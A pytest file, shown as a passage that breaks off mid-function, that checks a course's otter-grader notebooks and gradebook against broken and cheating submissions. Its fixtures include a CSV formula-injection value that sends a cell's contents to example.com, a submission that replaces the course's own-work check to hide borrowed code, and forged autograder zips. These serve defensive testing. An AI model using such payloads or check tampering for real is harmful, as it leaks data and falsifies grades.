"""The exercise sets: built by otter assign, usable by learners, graded headlessly without crashing.

Fast tests check the masters, the committed student versions, the README and the gradebook
helpers. The slow ones (marked ``notebook``) build each set once per test run with ``otter
assign``, check that the committed student versions match the build, and grade a folder per set
into a gradebook: the learner's hand-in (the solutions typed into the student notebook: full
marks, which proves the solutions pass every public and hidden test; its executed copy shows
every ``grader.check`` and ``grader.check_all`` passing, as the learner saw them), the unanswered
student notebook (zero on every auto-graded question), and broken submissions (an exception,
deleted cells, a file that is not a notebook, an infinite loop in a cell, a notebook that hangs
past the time limit, another set's notebook), each with a readable reason. Every notebook is
executed once.
"""

from __future__ import annotations

import csv
import re
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import nbformat
import pytest

from clflib.course import PROJECT_ROOT, REPOSITORY, exercises, gradebook

SETS = exercises.exercise_sets()
BY_SLUG = {exercise.slug: exercise for exercise in SETS}
IDS = [exercise.slug for exercise in SETS]
WRITTEN_ANSWER = (
    "70% of the messages are negative, so answering 'negative' every time already "
    "scores 0.70 accuracy while missing 8 of the 10 positive messages."
)


def read(path) -> nbformat.NotebookNode:
    return nbformat.read(path, as_version=4)


def code_cells(nb):
    return [cell for cell in nb.cells if cell.cell_type == "code"]


def is_answer_cell(cell) -> bool:
    return gradebook.ANSWER_CELL_TAG in cell.get("metadata", {}).get("tags", [])


# --- the masters and the committed student versions (fast) ---------------------------------


def test_the_course_has_its_exercise_sets():
    assert {
        "01_binary_sentiment",
        "02_multiclass_imbalance",
        "03_multilabel",
        "04_ner",
        "05_nli",
        "06_setfit",
        "07_zero_shot",
        "09_labels",
        "10_choosing",
        "quiz",
    } <= set(BY_SLUG)


@pytest.mark.parametrize("exercise", SETS, ids=IDS)
def test_master_is_committed_clean(exercise):
    nb = read(exercise.master)
    nbformat.validate(nb)
    for cell in code_cells(nb):
        assert not cell.outputs and cell.execution_count is None, "commit masters without outputs"
    assert nb.metadata["kernelspec"]["name"] == "python3"
    assert nb.metadata["language_info"]["name"] == "python"
    assert all(cell.get("id") for cell in nb.cells), "cells need stable ids (nbformat 4.5)"


@pytest.mark.parametrize("exercise", SETS, ids=IDS)
def test_first_code_cell_works_in_colab_and_jupyterlab(exercise, assert_colab_block_is_rerunnable):
    first = code_cells(read(exercise.master))[0].source
    assert '"google.colab" in sys.modules' in first
    assert f"https://github.com/{REPOSITORY}" in first, "clone the repository the course names"
    assert "otter-grader==7.0.0" in first, "install the otter-grader the course pins"
    assert_colab_block_is_rerunnable(first)
    student_folder = f"/content/course/exercises/{exercise.slug}/student"
    assert f'os.chdir("{student_folder}")' in first, "Colab must run where the tests are"
    assert 'grader = self_check.Notebook(tests_dir="tests")' in first
    if exercise.slug != "quiz":  # the quiz trains nothing, so it skips the heavy stack
        assert "clflib.setup()" in first


@pytest.mark.parametrize("exercise", SETS, ids=IDS)
def test_committed_student_version_has_no_solutions_or_hidden_tests(exercise):
    nb = read(exercise.student_notebook)
    assert nb.metadata["kernelspec"]["name"] == "python3"
    assert nb.metadata["otter"]["assignment_name"] == exercise.slug
    sources = "\n".join(cell.source for cell in nb.cells)
    assert "# SOLUTION" not in sources and "BEGIN SOLUTION" not in sources
    assert "BEGIN QUESTION\nname" not in sources
    for cell in code_cells(nb):
        assert not cell.outputs and cell.execution_count is None
    for question in exercise.auto_questions:
        assert f'grader.check("{question.name}")' in sources
    assert "grader.check_all()" in sources
    tests = sorted(p.stem for p in (exercise.student_dir / "tests").glob("*.py"))
    assert tests == sorted(q.name for q in exercise.auto_questions)
    for test_file in (exercise.student_dir / "tests").glob("*.py"):
        assert "hidden=True" not in test_file.read_text(), f"{test_file} leaks a hidden test"


@pytest.mark.parametrize("exercise", SETS, ids=IDS)
def test_every_cell_handed_to_a_learner_parses(exercise):
    """otter assign replaces solution lines with ``...``: a solution line that opens a block
    (``def``, ``if``) leaves an indented ``...`` under nothing, and the learner's cell raises
    IndentationError before any of their code runs. Keep block openers outside ``# SOLUTION``."""
    from IPython.core.inputtransformer2 import TransformerManager

    to_python = TransformerManager().transform_cell  # %pip and !git become plain calls
    for index, cell in enumerate(code_cells(read(exercise.student_notebook))):
        try:
            compile(to_python(cell.source), f"{exercise.slug} cell {index}", "exec")
        except SyntaxError as error:
            pytest.fail(f"{exercise.student_notebook.name}, code cell {index}: {error}\n{cell.source}")


def test_quiz_has_ten_one_point_questions_and_states_its_pass_mark():
    quiz = BY_SLUG["quiz"]
    assert len(quiz.auto_questions) == 10 and not quiz.manual_questions
    assert all(q.points == 1 for q in quiz.questions)
    assert quiz.pass_mark == 0.7
    intro = read(quiz.student_notebook).cells[0].source
    assert "7 of the 10 points (70%)" in intro


def test_exercise_01_questions_and_points():
    exercise = BY_SLUG["01_binary_sentiment"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 2, False),
        ("q2", 3, False),
        ("q3", 3, False),
        ("q3_explain", 1, True),
    ]


def test_exercise_02_questions_and_points():
    exercise = BY_SLUG["02_multiclass_imbalance"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 2, False),
        ("q2", 2, False),
        ("q3", 3, False),
        ("q3_explain", 1, True),
    ]


def test_exercise_03_questions_and_points():
    exercise = BY_SLUG["03_multilabel"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 3, False),
        ("q2", 2, False),
        ("q3", 1, True),
    ]


def test_exercise_04_questions_and_points():
    exercise = BY_SLUG["04_ner"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 3, False),
        ("q2", 3, False),
        ("q3", 1, True),
    ]


def test_exercise_05_questions_and_points():
    exercise = BY_SLUG["05_nli"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 3, False),
        ("q2", 3, False),
        ("q3", 1, True),
    ]


def test_exercise_06_questions_and_points():
    exercise = BY_SLUG["06_setfit"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 3, False),
        ("q2", 2, False),
        ("q3", 2, False),
        ("q4", 1, True),
    ]


def test_exercise_07_questions_and_points():
    exercise = BY_SLUG["07_zero_shot"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 2, False),
        ("q2", 3, False),
        ("q3", 1, True),
    ]


def test_exercise_09_questions_and_points():
    exercise = BY_SLUG["09_labels"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 3, False),
        ("q2", 1, True),
        ("q3", 3, False),
        ("q4", 2, False),
    ]


def test_exercise_10_questions_and_points():
    exercise = BY_SLUG["10_choosing"]
    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
        ("q1", 3, False),
        ("q2", 2, True),
        ("q3", 3, False),
    ]


def test_exercise_10_table_is_lesson_10s_measured_table():
    """The table the learner prices is the lesson's cpu-profile table, not invented numbers."""
    table = next(c for c in read(BY_SLUG["10_choosing"].master).cells if c.get("id") == "table-code")
    rows = re.findall(r"^\s+\('([^']+)', (\d+), (0\.\d+), (\d+)\.0\),$", table.source, re.M)
    names = [name for name, *_ in rows]
    assert {
        "TF-IDF + LR",
        "SetFit (8 per class)",
        "LoRA (rank 8)",
        "full fine-tune",
        "full fine-tune, int8",
    } <= set(names)
    readme = (PROJECT_ROOT / "README.md").read_text(encoding="utf-8")
    for name, _labels, f1, _ms in rows:
        if name in ("TF-IDF + LR", "full fine-tune"):
            assert f1 in readme, f"{name}: macro-F1 {f1} is not the README's lesson 10 table"


def test_exercise_02_hidden_baseline_is_a_measured_number():
    """q3's hidden test compares with the baseline's held-back macro-F1, measured once."""
    exercise = BY_SLUG["02_multiclass_imbalance"]
    test = next(c for c in read(exercise.master).cells if c.get("id") == "q3-test-held-back")
    assert test.source.startswith("# HIDDEN")
    match = re.search(r"^\s*baseline = (0\.\d+)$", test.source, re.M)
    assert match and 0.2 < float(match.group(1)) < 0.95, "the measured baseline is missing"
    assert "measured" in test.source.lower(), "say how the baseline was measured"


def test_readme_covers_learners_instructors_and_authors():
    readme = (PROJECT_ROOT / "exercises" / "README.md").read_text(encoding="utf-8")
    for exercise in SETS:
        relative = exercise.student_notebook.relative_to(PROJECT_ROOT).as_posix()
        assert relative in readme
        assert f"colab.research.google.com/github/{REPOSITORY}/blob/main/{relative}" in readme
    for phrase in (
        "make grade EXERCISE=",
        "make exercises",
        'grader.check("q1")',
        "grader.check_all()",
        "exercises/NN_topic/",
    ):
        assert phrase in readme


def test_makefile_has_the_exercise_targets_and_keeps_make_test():
    makefile = (PROJECT_ROOT / "Makefile").read_text()
    assert re.search(r"^exercises: setup$", makefile, re.M)
    assert re.search(r"^grade: setup$", makefile, re.M)
    assert "$(PY) -m pytest" in makefile and "clflib.course.gradebook grade" in makefile


# --- reading masters, and the gradebook helpers (fast) -------------------------------------


def test_unknown_set_names_the_available_ones():
    with pytest.raises(ValueError, match="Available sets: .*quiz"):
        exercises.get_exercise_set("99_nothing")
    assert exercises.get_exercise_set("01").slug == "01_binary_sentiment"


def test_a_master_without_assignment_config_is_refused(tmp_path):
    folder = tmp_path / "02_broken"
    folder.mkdir()
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# no config")])
    nbformat.write(nb, folder / "02_broken.ipynb")
    with pytest.raises(ValueError, match="ASSIGNMENT CONFIG"):
        exercises.read_exercise_set(folder / "02_broken.ipynb")


def test_assignment_name_must_match_the_folder(tmp_path):
    folder = tmp_path / "02_topic"
    folder.mkdir()
    config = nbformat.v4.new_raw_cell("# ASSIGNMENT CONFIG\nname: something_else")
    nbformat.write(nbformat.v4.new_notebook(cells=[config]), folder / "02_topic.ipynb")
    with pytest.raises(ValueError, match="name: 02_topic"):
        exercises.read_exercise_set(folder / "02_topic.ipynb")


def test_find_submissions_explains_an_empty_or_missing_folder(tmp_path):
    with pytest.raises(FileNotFoundError):
        gradebook.find_submissions(tmp_path / "missing")
    (tmp_path / "work.zip").write_bytes(b"")
    with pytest.raises(ValueError, match="No .ipynb files"):
        gradebook.find_submissions(tmp_path)


def test_gradebook_rows_total_percent_and_pass_mark():
    quiz = BY_SLUG["quiz"]
    names = [q.name for q in quiz.questions]
    seven = gradebook.SubmissionGrade("a.ipynb", {n: float(i < 7) for i, n in enumerate(names)})
    six = gradebook.SubmissionGrade(
        "b.ipynb",
        {n: float(i < 6) for i, n in enumerate(names)},
        reasons=["q07 0/1: AssertionError: not the right number"],
    )
    rows = gradebook.gradebook_rows([seven, six], quiz)
    assert [r["total"] for r in rows] == ["7", "6"] and rows[0]["possible"] == "10"
    assert [r["percent"] for r in rows] == ["70.0", "60.0"]
    assert [r["passed"] for r in rows] == ["yes", "no"]
    assert rows[1]["reason"].startswith("q07 0/1")
    assert list(rows[0]) == gradebook.gradebook_columns(quiz)


def test_an_unreadable_file_scores_zero_without_running_anything(tmp_path):
    exercise = BY_SLUG["quiz"]
    bad = tmp_path / "bad.ipynb"
    bad.write_text("{ this is not json")
    fake_zip = tmp_path / "autograder.zip"
    fake_zip.write_bytes(b"")
    grade = gradebook.grade_submission(bad, exercise, fake_zip)
    assert grade.total == 0 and "not a readable notebook" in grade.reasons[0]
    with pytest.raises(ValueError, match="positive"):
        gradebook.grade_submission(bad, exercise, fake_zip, timeout=0)


def test_handout_comparison_reports_deleted_cells_and_untouched_answers():
    exercise = BY_SLUG["01_binary_sentiment"]
    template = {cell.id: cell for cell in read(exercise.student_notebook).cells}
    untouched = read(exercise.student_notebook)
    assert gradebook.compare_with_handout(untouched, template) == [
        f"unanswered: none of the {sum(map(is_answer_cell, untouched.cells))} answer cells was changed"
    ]
    edited = read(exercise.student_notebook)
    edited.cells = [c for c in edited.cells if c.id != "q1-answer"]
    next(c for c in edited.cells if c.id == "q3-answer").source = "q3_macro_f1 = 0.5"
    assert gradebook.compare_with_handout(edited, template) == [
        '1 handed-out cell(s) deleted: "id2label = ..."'
    ]


def test_handout_comparison_works_without_cell_ids():
    """nbformat 4.4 notebooks (or converted copies) have no cell ids: cells are matched by content."""
    exercise = BY_SLUG["01_binary_sentiment"]
    template = {cell.id: cell for cell in read(exercise.student_notebook).cells}

    def without_ids(nb):
        for cell in nb.cells:
            cell.pop("id", None)
        return nb

    untouched = without_ids(read(exercise.student_notebook))
    assert gradebook.compare_with_handout(untouched, template) == [
        f"unanswered: none of the {sum(map(is_answer_cell, untouched.cells))} answer cells was changed"
    ]
    edited = read(exercise.student_notebook)
    check_q1 = next(c for c in edited.cells if c.source.strip() == 'grader.check("q1")')
    edited.cells = [c for c in edited.cells if c is not check_q1 and c.id != "q2-answer-train"]
    next(c for c in edited.cells if c.id == "q3-answer").source = "q3_macro_f1 = 0.5"
    reasons = gradebook.compare_with_handout(without_ids(edited), template)
    assert reasons == ['1 handed-out cell(s) deleted: "grader.check("q1")"', "1 answer cell(s) deleted"]


def test_the_gradebook_never_hands_a_formula_to_a_spreadsheet(tmp_path):
    exercise = BY_SLUG["05_nli"]
    hostile = gradebook.SubmissionGrade(
        "=cmd.ipynb",
        {"q1": 0.0, "q2": 0.0},
        reasons=["-2+3"],
        manual_answers={"q3": '=HYPERLINK("http://example.com/steal?"&A1, "see answer")'},
    )
    path = gradebook.write_gradebook([hostile], exercise, tmp_path / "book.csv")
    row = read_gradebook(path)["'=cmd.ipynb"]
    assert row["q3_answer"] == '\'=HYPERLINK("http://example.com/steal?"&A1, "see answer")'
    assert row["reason"] == "'-2+3" and row["total"] == "0"


def test_a_changed_autograder_zip_is_never_reused(tmp_path, monkeypatch):
    """The build stamp holds the zip's hash: a zip rewritten after the build is rebuilt."""
    exercise = BY_SLUG["quiz"]
    calls = []

    def fake_build(exercise, folder, run_tests=True):
        build = exercises.Build(exercise, Path(folder))
        build.autograder_dir.mkdir(parents=True, exist_ok=True)
        build.autograder_zip.write_bytes(b"the real autograder")
        calls.append(folder)
        return build

    monkeypatch.setattr(exercises, "build", fake_build)
    first = exercises.cached_build(exercise, tmp_path)
    assert exercises.build_is_current(exercise, tmp_path) and len(calls) == 1
    exercises.cached_build(exercise, tmp_path)
    assert len(calls) == 1, "an unchanged build is reused"
    first.autograder_zip.write_bytes(b"a forged autograder that gives everyone full marks")
    assert not exercises.build_is_current(exercise, tmp_path)
    exercises.cached_build(exercise, tmp_path)
    assert len(calls) == 2 and first.autograder_zip.read_bytes() == b"the real autograder"


def test_a_zip_changed_during_grading_grades_no_one(tmp_path):
    """grade_folder takes the zip's hash before the first submission; a later submission whose
    private copy differs (someone rewrote the shared zip) is not graded with it."""
    exercise = BY_SLUG["quiz"]
    forged = tmp_path / "autograder.zip"
    forged.write_bytes(b"rewritten by a submission")
    grade = gradebook.grade_submission(
        exercise.student_notebook, exercise, forged, autograder_sha256="0" * 64
    )
    assert grade.total == 0 and grade.reasons[0].startswith("not graded: the autograder")


def test_written_answers_are_collected_for_the_grader():
    exercise = BY_SLUG["01_binary_sentiment"]
    handout = frozenset(cell.id for cell in read(exercise.student_notebook).cells)
    nb = read(exercise.student_notebook)
    assert gradebook.manual_answers(nb, exercise, handout) == {"q3_explain": "(no answer)"}
    placeholder = next(c for c in nb.cells if c.cell_type == "markdown" and is_answer_cell(c))
    placeholder.source = WRITTEN_ANSWER
    assert gradebook.manual_answers(nb, exercise, handout) == {"q3_explain": WRITTEN_ANSWER}
    # a learner who deleted the prompt cell and wrote in a new one is still read
    position = nb.cells.index(placeholder)
    nb.cells[position] = nbformat.v4.new_markdown_cell("Accuracy rewards the majority class.")
    assert gradebook.manual_answers(nb, exercise, handout) == {
        "q3_explain": "Accuracy rewards the majority class."
    }


def test_command_line_errors_are_one_readable_line(tmp_path, capsys):
    assert gradebook.main(["grade", "07_missing", str(tmp_path)]) == 2
    assert gradebook.main(["grade", "quiz", str(tmp_path / "nowhere")]) == 2
    assert exercises.main(["build", "07_missing"]) == 2
    errors = capsys.readouterr().err.strip().splitlines()
    assert errors == [
        "error: Unknown exercise set '07_missing'. Available sets: " + ", ".join(BY_SLUG) + ".",
        f"error: No folder of submissions at {tmp_path / 'nowhere'}.",
        "error: Unknown exercise set '07_missing'. Available sets: " + ", ".join(BY_SLUG) + ".",
    ]


# --- building, a learner's session, grading (slow) -----------------------------------------

# Each set is built once per test run (the `exercise_build` fixture in conftest.py), without
# running the solutions: grading the learner's hand-in below (the solutions typed into the
# student notebook) proves they get full marks. (`make exercises` runs them.)


def answered(
    build: exercises.Build, replace: dict[str, str] | None = None, delete: tuple[str, ...] = ()
) -> nbformat.NotebookNode:
    """The student notebook with the solutions typed into its answer cells, as a learner would."""
    nb = read(build.student_dir / build.exercise.master.name)
    solutions = {cell.id: cell.source for cell in read(build.solution_notebook).cells}
    for cell in nb.cells:
        if is_answer_cell(cell):
            cell.source = solutions[cell.id] if cell.cell_type == "code" else WRITTEN_ANSWER
        cell.source = (replace or {}).get(cell.id, cell.source)
    nb.cells = [cell for cell in nb.cells if cell.id not in delete]
    return nb


def check_the_committed_student_version_is_current(exercise_build, slug):
    build = exercise_build(slug)
    assert build.autograder_zip.is_file() and build.solution_notebook.is_file()
    differences = exercises.student_version_differences(BY_SLUG[slug], build)
    assert not differences, "run `make exercises` and commit exercises/*/student/:\n" + "\n".join(differences)


@pytest.mark.notebook
def test_a_solution_that_fails_its_own_test_stops_the_build(tmp_path):
    folder = tmp_path / "02_tiny"
    folder.mkdir()
    raw, code = nbformat.v4.new_raw_cell, nbformat.v4.new_code_cell
    cells = [
        raw(
            "# ASSIGNMENT CONFIG\nname: 02_tiny\ninit_cell: false\nexport_cell: false\n"
            "generate: true\ntests:\n  files: true\n  ok_format: false"
        ),
        raw("# BEGIN QUESTION\nname: q1\npoints: 1"),
        raw("# BEGIN SOLUTION"),
        code("x = 1  # SOLUTION"),
        raw("# END SOLUTION"),
        raw("# BEGIN TESTS"),
        code('def test_x(x):\n    assert x == 2, "x should be 2"\n\ntest_x(x)'),
        raw("# END TESTS"),
        raw("# END QUESTION"),
    ]
    nb = nbformat.v4.new_notebook(
        cells=cells,
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "language_info": {"name": "python"},
        },
    )
    nbformat.write(nb, folder / "02_tiny.ipynb")
    tiny = exercises.read_exercise_set(folder / "02_tiny.ipynb")
    with pytest.raises(exercises.ExerciseBuildError, match="(?s)a solution fails.*x should be 2"):
        exercises.build(tiny, tmp_path / "build")


def check_outputs(nb) -> dict[str, str]:
    shown = {}
    for cell in code_cells(nb):
        match = re.fullmatch(r'grader\.check\("(\w+)"\)', cell.source.strip())
        if match:
            shown[match.group(1)] = "".join(o.get("data", {}).get("text/plain", "") for o in cell.outputs)
    return shown


def broken_submissions(slug: str, build: exercises.Build) -> dict[str, nbformat.NotebookNode | str]:
    """Submissions that go wrong in the ways a class's folder does."""
    if slug == "01_binary_sentiment":
        return {
            "raises.ipynb": answered(
                build, {"q2-answer-train": 'raise RuntimeError("my training loop is broken")'}
            ),
            "deleted_cells.ipynb": answered(build, delete=("q1-answer", "q2-answer-train")),
            # macro-F1 weighted by support: a common slip that the public check now names (q2's
            # training is left out: this submission is about q3, which does not need it)
            "weighted_f1.ipynb": answered(
                build,
                {
                    "q2-answer-train": "q2_model = q2_trainer = None  # left for later",
                    "q3-answer": (
                        "from sklearn.metrics import confusion_matrix, f1_score, precision_recall_fscore_support\n\n"
                        "p, r, f, n = precision_recall_fscore_support(q3_labels, q3_predictions, zero_division=0)\n"
                        "q3_per_class = {name: {'precision': p[i], 'recall': r[i], 'f1': f[i], 'support': n[i]}\n"
                        "                for i, name in enumerate(q3_label_names)}\n"
                        "q3_macro_f1 = f1_score(q3_labels, q3_predictions, average='weighted')\n"
                        "q3_confusion = confusion_matrix(q3_labels, q3_predictions)"
                    ),
                },
            ),
            "not_a_notebook.ipynb": "this file is not JSON",
        }
    if slug == "02_multiclass_imbalance":
        # q1 hands in the course's own function, q3 the baseline model: both are caught
        return {
            "shortcuts.ipynb": answered(
                build,
                {
                    "q1-answer": "from clflib.losses import class_weights as q1_class_weights",
                    "q3-answer": "q3_model = q3_baseline_model",
                },
            )
        }
    if slug == "03_multilabel":
        # right numbers, but q1 wraps the course's own search and q2 hands in sklearn's metrics
        return {
            "shortcuts.ipynb": answered(
                build,
                {
                    "q1-answer": (
                        "from clflib.thresholds import best_label_thresholds\n\n\n"
                        "def q1_best_thresholds(targets, scores, min_support=5, fallback=0.5):\n"
                        "    return best_label_thresholds(targets, scores, min_support, fallback).thresholds\n\n\n"
                        'q1_thresholds = q1_best_thresholds(y["validation"], scores["validation"])'
                    ),
                    "q2-answer": (
                        "from sklearn.metrics import accuracy_score as q2_subset_accuracy\n"
                        "from sklearn.metrics import hamming_loss as q2_hamming_loss"
                    ),
                },
            )
        }
    if slug == "04_ner":
        # right labels, but q1 wraps the course's alignment; q2 reads the spans leniently (an I-
        # after O starts an entity), the mistake the strict hidden cases catch
        lenient = (
            "def q2_entity_scores(true_tags, predicted_tags):\n"
            "    def spans(tags):\n"
            "        found, start = [], None\n"
            "        for i, tag in enumerate(list(tags) + ['O']):\n"
            "            if start is not None and (tag == 'O' or tag.startswith('B-') or tag[2:] != kind):\n"
            "                found.append((kind, start, i))\n"
            "                start = None\n"
            "            if tag != 'O' and start is None:\n"
            "                kind, start = tag[2:], i\n"
            "        return found\n"
            "    true = {(i, *e) for i, t in enumerate(true_tags) for e in spans(t)}\n"
            "    guess = {(i, *e) for i, t in enumerate(predicted_tags) for e in spans(t)}\n"
            "    p = len(true & guess) / len(guess) if guess else 0.0\n"
            "    r = len(true & guess) / len(true) if true else 0.0\n"
            "    return p, r, (2 * p * r / (p + r) if p + r else 0.0)\n\n\n"
            "q2_precision, q2_recall, q2_f1 = q2_entity_scores(true_tags, predicted_tags)"
        )
        return {
            "shortcuts.ipynb": answered(
                build,
                {
                    "q1-answer": (
                        "from clflib.ner import align_labels\n\n\n"
                        "def q1_align_labels(word_ids, word_tags, tag_names):\n"
                        '    return align_labels(word_ids, word_tags, "all_subwords_inside", tag_names)'
                    ),
                    "q2-answer": lenient,
                },
            )
        }
    if slug == "05_nli":
        # q1 truncates longest_first and never refuses; q2 hands in a constant model and numbers
        return {
            "shortcuts.ipynb": answered(
                build,
                {
                    "q1-answer": (
                        "def q1_encode(premise, hypothesis, max_length):\n"
                        "    return tokenizer(premise, hypothesis, truncation=True, max_length=max_length)\n\n\n"
                        "def q1_hypothesis_tokens(encoding):\n"
                        "    ids = [i for i, k in zip(encoding['input_ids'], encoding['token_type_ids']) if k == 1]\n"
                        "    return tokenizer.convert_ids_to_tokens(ids[:-1])"
                    ),
                    "q2-answer": (
                        "from sklearn.dummy import DummyClassifier\n\n\n"
                        "def q2_fit_hypothesis_only(hypotheses, labels):\n"
                        "    return DummyClassifier().fit([[0]] * len(labels), list(labels))\n\n\n"
                        "q2_hypothesis_only_accuracy, q2_majority_accuracy, q2_premise_only_accuracy = 0.545, 0.333, 0.333"
                    ),
                },
            )
        }
    if slug == "06_setfit":
        # q1 takes the first k rows of each class (no seed, no check), q2 types in the worked
        # example, q3 takes the best mean without the tolerance and the clock
        return {
            "shortcuts.ipynb": answered(
                build,
                {
                    "q1-answer": (
                        "def q1_sample_per_class(dataset, k, seed, label_column='intent'):\n"
                        "    labels = list(dataset[label_column])\n"
                        "    rows = [i for c in sorted(set(labels)) for i in [j for j, l in enumerate(labels) if l == c][:k]]\n"
                        "    return dataset.select(rows)"
                    ),
                    "q2-answer": (
                        "def q2_pair_counts(k, num_classes):\n"
                        "    return {'positive': 3, 'negative': 12, 'total': 15}\n\n\n"
                        "def q2_setfit_pairs(num_examples, num_iterations):\n"
                        "    return 2 * num_iterations * num_examples"
                    ),
                    "q3-answer": (
                        "def q3_recommend(summary, labels_per_class, tolerance=0.01):\n"
                        "    rows = summary[summary['k'] <= labels_per_class]\n"
                        "    rows = rows[rows['k'] == rows['k'].max()]\n"
                        "    return str(rows.sort_values('accuracy_mean').iloc[-1]['method'])"
                    ),
                },
            )
        }
    if slug == "07_zero_shot":
        # q1 rounds the batches down; q2 hands in the lesson's inbox descriptions, which gain on
        # validation and not enough on the held-back test messages
        lesson_descriptions = (
            "q2_template = '{}'\n"
            "q2_label_texts = {\n"
            "    'order_status': 'The customer asks where an order is or when it will arrive.',\n"
            "    'order_change': 'The customer wants to change or cancel an order.',\n"
            "    'refund_return': 'The customer wants a refund or to return an item.',\n"
            "    'billing': 'The customer asks about a charge, an invoice or a payment.',\n"
            "    'technical_support': 'The customer says a product or the app does not work.',\n"
            "    'account_access': 'The customer cannot log in or needs help with their account.',\n"
            "    'product_inquiry': 'The customer asks about a product before buying it.',\n"
            "    'feedback': 'The customer gives feedback, praise or a complaint about the service.',\n"
            "    'warranty_repair': 'The customer asks about a warranty or a repair.',\n"
            "    'data_privacy': 'The customer asks about their personal data or privacy.',\n"
            "}\n"
            "q2_validation = score_wording(q2_template, [q2_label_texts[name] for name in intent_names])"
        )
        return {
            "shortcuts.ipynb": answered(
                build,
                {
                    "q1-answer": (
                        "def q1_nli_passes(num_texts, num_labels):\n    return num_texts * num_labels\n\n\n"
                        "def q1_embedding_passes(num_texts, num_labels):\n    return num_texts\n\n\n"
                        "def q1_nli_batches(num_texts, num_labels, batch_size):\n"
                        "    return num_texts * num_labels // batch_size"
                    ),
                    "q2-answer": lesson_descriptions,
                },
            )
        }
    if slug == "09_labels":
        # q1 labels by the word "refund" instead of the rule; q3 reports a noisy score it never
        # measured (no loss at all); q4 is right
        return {
            "word_not_rule.ipynb": answered(
                build,
                {
                    "q1-answer": "q1_labels = ['refund_return' if 'refund' in m.lower() else 'billing' for m in Q1_MESSAGES]",
                    "q3-answer": (
                        "q3_noisy = label_noise.flip_random(train_labels, NOISE_RATE, len(intent_names), seed=SEED).labels\n"
                        "q3_flipped_rows = np.flatnonzero(q3_noisy != train_labels)\n"
                        "q3_clean_f1 = test_macro_f1(train_labels)\n"
                        "q3_noisy_f1 = q3_clean_f1  # 'the model did not mind'"
                    ),
                },
            )
        }
    if slug == "10_choosing":
        # q1 right on the table but accepts a negative volume; q3 leans on ignore_index, which
        # gives nan for a batch without one task's labels: both pass their public checks.
        # hides_borrowing: q1 right everywhere, but clflib's function under dynamic names, and
        # the kernel's own-work check replaced by one that clears it (issue 32: it scored 3/3)
        hides_borrowing = (
            "import importlib\n\n"
            "checks = importlib.import_module('clflib.course.checks')\n"
            "checks.own_work_report = lambda function, forbidden: {\n"
            "    'is_function': True, 'home': '__main__', 'name': 'daily_cpu_cost', 'borrowed': []}\n\n\n"
            "def daily_cpu_cost(predictions_per_day, ms_per_1k, cores, price_per_core_hour):\n"
            "    if predictions_per_day < 0 or ms_per_1k < 0 or price_per_core_hour < 0 or cores < 1:\n"
            "        raise ValueError('volume, time and price must be 0 or more, cores at least 1')\n"
            "    course = getattr(importlib.import_module('clflib.' + 'cost'), 'daily_' + 'cost')\n"
            "    return course(predictions_per_day, ms_per_1k, cores, price_per_core_hour)\n\n\n"
            "q1_costs = {method: daily_cpu_cost(5_000_000, row.ms_per_1k, CORES, 0.05)\n"
            "            for method, row in TABLE.iterrows()}"
        )
        return {
            "hides_borrowing.ipynb": answered(build, {"q1-answer": hides_borrowing}),
            "no_guards.ipynb": answered(
                build,
                {
                    "q1-answer": (
                        "def daily_cpu_cost(predictions_per_day, ms_per_1k, cores, price_per_core_hour):\n"
                        "    return predictions_per_day / 1e6 * ms_per_1k * cores / 3600 * price_per_core_hour\n\n\n"
                        "q1_costs = {method: daily_cpu_cost(5_000_000, row.ms_per_1k, CORES, 0.05)\n"
                        "            for method, row in TABLE.iterrows()}"
                    ),
                    "q3-answer": (
                        "def mixed_batch_loss(intent_logits, sentiment_logits, intent_labels, sentiment_labels, intent_weight):\n"
                        "    ce = torch.nn.functional.cross_entropy\n"
                        "    return (intent_weight * ce(intent_logits, intent_labels, ignore_index=-100)\n"
                        "            + (1 - intent_weight) * ce(sentiment_logits, sentiment_labels, ignore_index=-100))\n\n\n"
                        "q3_loss = mixed_batch_loss(BATCH_INTENT_LOGITS, BATCH_SENTIMENT_LOGITS, BATCH_INTENTS,\n"
                        "                           BATCH_SENTIMENTS, 0.7)"
                    ),
                },
            ),
        }
    if slug == "quiz":
        wrong = {f"q{i:02d}-answer": f"q{i:02d} = 99" for i in (2, 3, 5, 6)}
        return {
            "six_right.ipynb": answered(build, wrong),
            "seven_right.ipynb": answered(build, dict(list(wrong.items())[:3])),
            "typo_in_an_answer.ipynb": answered(build, {"q01-answer": 'q01 = "b'}),
            "one_left_blank.ipynb": answered(build, {"q04-answer": "q04 = ..."}),
        }
    return {}


def write_folder(folder: Path, submissions: dict) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in submissions.items():
        if isinstance(content, str):
            (folder / name).write_text(content)
        else:
            nbformat.write(content, folder / name)
    return folder


def read_gradebook(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


def check_a_learner_and_the_gradebook(exercise_build, slug, tmp_path):
    """A learner answers (the solutions, typed into the student notebook) and hands it in with
    the class: that hand-in gets full marks, and its executed copy shows what the learner saw,
    every ``grader.check`` passing; the unanswered notebook gets zero, and the broken ones what
    they earned, each with a readable reason. Each notebook runs once, in the grader's sandbox."""
    exercise, build = BY_SLUG[slug], exercise_build(slug)
    folder = write_folder(
        tmp_path / "submissions",
        {
            "correct.ipynb": answered(build),
            "unanswered.ipynb": read(build.student_dir / exercise.master.name),
            **broken_submissions(slug, build),
        },
    )
    executed = tmp_path / "executed"
    grades = gradebook.grade_folder(
        folder,
        exercise,
        autograder_zip=build.autograder_zip,
        timeout=600,
        cell_timeout=300,
        jobs=2,
        executed_dir=executed,
    )
